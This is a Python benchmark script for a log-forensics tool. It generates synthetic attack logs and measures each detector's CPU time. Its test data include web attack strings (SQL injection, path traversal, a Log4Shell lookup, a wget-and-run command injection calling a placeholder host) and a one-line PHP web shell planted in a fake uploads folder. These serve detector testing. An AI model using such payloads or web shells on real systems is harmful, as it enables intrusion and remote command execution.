# SPDX-License-Identifier: Apache-2.0
"""What do thousands of attacking addresses cost each detector? CPU seconds of one process, by detector.

1. Makes an access log, an error log, an audit log and an auth.log in which each address asks five times for what it should not and fails to
   log in six times; every fiftieth then logs in; a planted script stands in the web root. Fixed seed.
2. Examines them (detectors left out), then runs every detector over the stored events.
Usage: python benchmarks/many_addresses.py [--addresses N] [--times N]
"""

from __future__ import annotations

import random
import resource
from datetime import UTC, datetime, timedelta
from pathlib import Path
from time import process_time

from measuring import arguments, say_machine, workplace

TRIES = (
    "/index.php?id=1'%20or%20'1'='1", "/cgi-bin/%2e%2e/%2e%2e/bin/sh?id", "/?x=${jndi:ldap://192.0.2.4/a}", "/shell.php?cmd=id",
    "/index.html?n={{7*7}}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.html?c=$(wget%20http://192.0.2.9/x.sh)",
    "/uploads/a.php?cmd=cat%20/tmp/x1.sh",
)  # fmt: skip
START = datetime(2026, 3, 1, tzinfo=UTC)
SPAN = 20 * 86400


def make(folder: Path, count: int) -> None:
    """The folder of a system that so many addresses attacked over twenty days."""
    dice = random.Random(7)
    log, uploads = folder / "var/log", folder / "var/www/html/uploads"
    for place in (log / "nginx", log / "audit", uploads):
        place.mkdir(parents=True)
    (uploads / "a.php").write_text("<?php system($_GET['cmd']);")
    access, errors, auth, audit = [], [], [], []
    for n in range(count):
        address = f"{dice.randrange(20, 99)}.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"
        when = START + timedelta(seconds=n * SPAN // count)
        for k in range(5):
            asked = f"GET {TRIES[(n + k) % len(TRIES)]}" if k < 4 else "POST /upload.php"
            status = 200 if (n % 7 == 0 and k == 0) or ("a.php" in asked and n % 3 == 0) else 404
            access.append(
                f'{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{asked} HTTP/1.1" {status} 99 "-" "Mozilla/5.0"\n'
            )
        if n % 5 == 0:
            said = 'PHP message: PHP Warning: mysqli_query(): You have an error in your SQL syntax" while reading response header'
            errors.append(
                f'{when:%Y/%m/%d %H:%M:%S} [error] 7#7: *{n} FastCGI sent in stderr: "{said} from upstream, client: {address}\n'
            )
        line = f"{when:%b %e %H:%M:%S} web01 sshd[{1000 + n % 30000}]:"
        told = f"from {address} port {20000 + n % 40000} ssh2\n"
        failures = 12 if n % 50 == 0 else 6
        auth += [
            f"{line} Failed password for {'root' if n % 2 else f'invalid user u{(n * 7 + k) % 500}'} {told}"
            for k in range(failures)
        ]
        if n % 50 == 0:
            auth.append(f"{line} Accepted password for root {told}")
        if n % 20 == 0:
            mark = f"msg=audit({when.timestamp():.0f}.1:{n + 1}):"
            call = f"type=SYSCALL {mark} arch=c000003e syscall=59 success=yes exit=0"
            audit.append(f'{call} pid={n} uid=33 comm="id" exe="/usr/bin/id" key="web-exec"\n')
            audit.append(f'type=EXECVE {mark} argc=1 a0="id"\n')
    for name, lines in (
        ("nginx/access.log", access),
        ("nginx/error.log", errors),
        ("auth.log", auth),
        ("audit/audit.log", audit),
    ):
        (log / name).write_text("".join(lines))


def main() -> None:
    """Put the question."""
    parser = arguments("detectors over many attacking addresses, CPU seconds")
    parser.add_argument("--addresses", type=int, default=20_000)
    options = parser.parse_args()
    print("# many addresses")
    say_machine()
    from headwater.cli.main import main as headwater
    from headwater.detect import registry
    from headwater.procedure import judgement
    from headwater.procedure.corridor import open_case, store_of

    with workplace() as work:
        make(work / "host", options.addresses)
        every = registry.all_detectors()
        registry.all_detectors = dict  # type: ignore[assignment]
        headwater(["investigate", str(work / "host"), "--case", str(work / "case"), "--no-authority", "benchmark",
                   "--examiner", "A", "--examiner", "B", "--zone", "UTC"])  # fmt: skip
        for _ in range(options.times):
            corridor, whole = open_case(work / "case"), 0.0
            with corridor.ledger:
                store, settings = store_of(corridor), judgement._settings(corridor)
                for name, detector in every.items():
                    before = process_time()
                    found = sum(1 for _ in registry.run(detector, store, settings))
                    spent = process_time() - before
                    whole += spent
                    if found or spent > 0.5:
                        print(f"{name:<24} {spent:7.2f} CPU s, {found:,} findings", flush=True)
            most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10
            print(
                f"all                      {whole:7.2f} CPU s over {options.addresses:,} addresses; {most} MiB at most",
                flush=True,
            )


if __name__ == "__main__":
    main()
